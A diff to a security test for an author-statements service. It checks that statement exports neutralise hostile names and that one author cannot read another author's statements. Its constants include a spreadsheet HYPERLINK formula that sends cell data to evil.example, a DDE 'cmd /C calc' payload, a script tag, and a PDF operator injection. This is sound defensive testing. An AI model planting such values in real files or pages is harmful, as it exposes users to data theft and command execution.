@@ -3,15 +3,14 @@ import { MoneyWorld, type PaidAuthor } from '../support/money/money-world.js';
 
 const DRIVE = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
 const VENTURE = "\u202e@SUM(1+1)*cmd|' /C calc'!A0\"\r\n<script>alert(1)</script>";
-let world: MoneyWorld;
+const world = MoneyWorld.forTests();
 let hostile: PaidAuthor;
 let other: PaidAuthor;
 let id: string;
 let foreign: string;
 
 beforeAll(async () => {
-  world = await MoneyWorld.start();
-  hostile = await world.author('+cmd) Tj ET (');
+  hostile = await world.author({ name: '+cmd) Tj ET (' });
   other = await world.author();
   for (const author of [hostile, other])
     await world.segment({
@@ -25,7 +24,6 @@ beforeAll(async () => {
   id = (await world.statementOf(hostile, '2026-01')).id;
   foreign = (await world.statementOf(other, '2026-01')).id;
 });
-afterAll(() => world.close());
 
 describe('Case 28: names that contain code, and statements of somebody else', () => {
   it('writes hostile names into CSV so that no spreadsheet computes them', async () => {
@@ -49,7 +47,7 @@ describe('Case 28: names that contain code, and statements of somebody else', ()
       ['json', 'application/json; charset=utf-8'],
       ['pdf', 'application/pdf'],
     ]) {
-      const { headers } = await world.get(hostile.session, `/author/statements/${id}/${form}`);
+      const { headers } = await world.read(hostile.session, `/author/statements/${id}/${form}`);
       expect(headers['content-type']).toBe(type);
       expect(headers['content-disposition']).toBe(`attachment; filename="SANDBOX-statement-2026-01-usd.${form}"`);
       expect(headers['x-content-type-options']).toBe('nosniff');
@@ -60,14 +58,14 @@ describe('Case 28: names that contain code, and statements of somebody else', ()
     const nobody = '0190a000-0000-7000-8000-00000000dead';
     for (const path of ['', '/csv', '/json', '/pdf', '/verify']) {
       const [theirs, none] = [
-        await world.get(hostile.session, `/author/statements/${foreign}${path}`),
-        await world.get(hostile.session, `/author/statements/${nobody}${path}`),
+        await world.read(hostile.session, `/author/statements/${foreign}${path}`),
+        await world.read(hostile.session, `/author/statements/${nobody}${path}`),
       ];
       expect([theirs.status, theirs.error]).toEqual([404, 'statement_not_found']);
       expect([none.status, none.error]).toEqual([404, 'statement_not_found']);
-      expect((await world.get(hostile.session, `/finance/statements/${foreign}${path}`)).status).toBe(403);
+      expect((await world.read(hostile.session, `/finance/statements/${foreign}${path}`)).status).toBe(403);
     }
-    const list = await world.get(hostile.session, '/author/statements');
+    const list = await world.read(hostile.session, '/author/statements');
     expect(list.body).toContain(id);
     expect(list.body).not.toContain(foreign);
     expect(list.body).not.toContain(other.orgId);
